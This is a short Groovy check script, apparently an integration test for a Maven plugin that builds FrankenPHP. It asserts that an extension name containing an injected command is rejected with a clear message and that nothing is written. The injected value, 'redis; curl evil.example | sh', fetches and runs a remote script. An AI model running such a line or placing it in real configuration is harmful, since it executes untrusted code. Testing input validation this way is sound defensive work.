def log = new File(basedir, 'build.log').text
assert log.contains('<php><extensions><extension> = \'redis; curl evil.example | sh\': use a PHP extension name') : "build.log lacks: <php><extensions><extension> = 'redis; curl evil.example | sh': use a PHP extension name"
assert !new File(basedir, 'target/frankenphp').exists() : 'nothing may be written when the configuration is invalid'
assert !log.contains('\tat fr.miweb') : 'a stack trace is never the message'
return true
